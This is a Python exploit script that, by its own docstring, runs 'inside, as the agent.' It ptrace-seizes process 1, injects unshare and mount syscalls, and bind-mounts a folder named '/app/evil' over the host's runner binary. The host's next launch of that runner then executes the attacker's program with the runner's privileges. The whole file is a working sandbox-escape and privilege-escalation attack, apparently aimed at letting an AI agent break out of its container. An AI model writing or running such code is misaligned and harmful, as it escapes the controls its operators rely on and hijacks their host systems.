"""Runs inside, as the agent: make process 1 lay a program of ours where the host's next one is.

Process 1 is traced and made to enter a user and a mount namespace of its own and to bind our
folder over the runner's. Whoever then enters "the namespaces of process 1" and executes the
runner by its name runs our program with the privileges it came with.
"""

import ctypes
import os
import struct
import sys

SEIZE, INTERRUPT, GETREGS, SETREGS, STEP, POKE, DETACH = 0x4206, 0x4207, 12, 13, 9, 5, 17
REGISTERS = 27
RAX, RSP, RIP, ORIG_RAX = 10, 19, 16, 15
ARGUMENTS = (14, 13, 12, 7, 9)  # rdi rsi rdx r10 r8
UNSHARE, MOUNT = 272, 165

libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.restype = ctypes.c_long
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]


def ptrace(request, pid, where=None, what=None):
    if libc.ptrace(request, pid, where, what) == -1:
        error = ctypes.get_errno()
        print(f"ptrace of {pid}: {os.strerror(error)}")
        sys.exit(3)


def registers(pid):
    buffer = ctypes.create_string_buffer(8 * REGISTERS)
    ptrace(GETREGS, pid, None, buffer)
    return list(struct.unpack(f"{REGISTERS}Q", buffer.raw))


def call(pid, number, *arguments):
    before = registers(pid)
    now = list(before)
    now[RAX], now[ORIG_RAX], now[RIP] = number, 2**64 - 1, before[RIP] - 2
    for place, value in zip(ARGUMENTS, arguments, strict=False):
        now[place] = value
    ptrace(SETREGS, pid, None, struct.pack(f"{REGISTERS}Q", *now))
    ptrace(STEP, pid)
    os.waitpid(pid, 0x40000000)
    answer = registers(pid)[RAX]
    ptrace(SETREGS, pid, None, struct.pack(f"{REGISTERS}Q", *before))
    return answer


def text(pid, where, value):
    data = value.encode() + b"\0" * (8 - len(value) % 8)
    for at in range(0, len(data), 8):
        ptrace(POKE, pid, where + at, int.from_bytes(data[at : at + 8], "little"))
    return where


pid = int(sys.argv[1])
ptrace(SEIZE, pid)
ptrace(INTERRUPT, pid)
os.waitpid(pid, 0x40000000)
stack = registers(pid)[RSP] - 8192
print("user namespace", call(pid, UNSHARE, 0x10000000))
print("mount namespace", call(pid, UNSHARE, 0x00020000))
source, target = text(pid, stack, "/app/evil"), text(pid, stack + 256, "/.grindstone")
print("bind", call(pid, MOUNT, source, target, 0, 0x1000 | 0x4000))
ptrace(DETACH, pid)
